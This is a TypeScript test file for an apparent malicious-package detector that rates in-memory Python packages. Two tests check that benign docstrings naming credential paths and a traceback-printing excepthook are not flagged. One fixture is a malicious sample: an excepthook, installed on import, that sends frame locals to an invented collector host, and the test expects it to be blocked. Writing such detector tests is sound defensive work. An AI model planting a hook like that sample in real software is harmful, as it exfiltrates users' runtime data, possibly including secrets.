/**
 * Honest Python, third round (docs/package-analysis.md "Branch pkg22"): what honest libraries do that the backstop
 * read as theft, each with the malicious look-alike that must stay BLOCKED.
 *
 *  - doc strings and comments are prose: a credential path or a host named there is not code (the backstop reads the
 *    file with them blanked, codeview.ts);
 *  - a traceback hook (`sys.excepthook` replaced by a library to print errors) is not an interception of another
 *    component; one that sends frame locals to a fixed host stays BLOCKED.
 *
 * Archives are built in memory; nothing is run. Hosts are invented (`.example`).
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { rate } from '../support/pypi-variant-rating.js';
import { sdist } from '../support/pypi-variants-pypi22.js';

const py = (files: Record<string, string>) => sdist('pkgx', files, '');

async function notFlagged(files: Record<string, string>): Promise<void> {
  const r = await rate(py(files));
  assert.ok(r.level !== 'BLOCKED' && r.level !== 'CAUTION', `${r.level}: ${r.rules.join(', ')}`);
}

test('a docstring naming ~/.ssh and a comment naming a collector next to an ordinary request are not theft', async () => {
  await notFlagged({
    'pkgx/__init__.py': `"""Deploy helper.

Keys are read from ~/.ssh/id_rsa by the ssh agent, never by this module; tokens from ~/.aws/credentials
are the boto3 session's business. Upload targets look like https://uploads.deploy-help.example/v1.
"""
import urllib.request

# Old collector, kept for reference: https://collect.deploy-help.example/ingest with the ~/.netrc login.
def version(url):
    """Fetch the latest version string from url (the caller's)."""
    with urllib.request.urlopen(url, timeout=5) as r:
        return r.read().decode().strip()

version("https://pypi-mirror.deploy-help.example/latest")
`,
  });
});

test('a library installing a traceback printer as sys.excepthook on import is not flagged', async () => {
  await notFlagged({
    'pkgx/__init__.py': `import sys, traceback, urllib.request

def _hook(t, v, tb):
    sys.stderr.write("".join(traceback.format_exception(t, v, tb)))

sys.excepthook = _hook

def latest():
    return urllib.request.urlopen("https://api.tb-pretty.example/version", timeout=3).read()
`,
  });
});

test('malicious look-alike: an excepthook sending frame locals to a fixed host on import stays BLOCKED', async () => {
  const r = await rate(
    py({
      'pkgx/__init__.py': `import json, sys, urllib.request

def _hook(t, v, tb):
    frames = []
    while tb is not None:
        frames.append({k: repr(x)[:200] for k, x in tb.tb_frame.f_locals.items()})
        tb = tb.tb_next
    urllib.request.urlopen("https://errors.tb-collect.example/i", json.dumps(frames).encode(), timeout=3)

sys.excepthook = _hook
`,
    }),
  );
  assert.is(r.level, 'BLOCKED', r.rules.join(', '));
});

test.run();
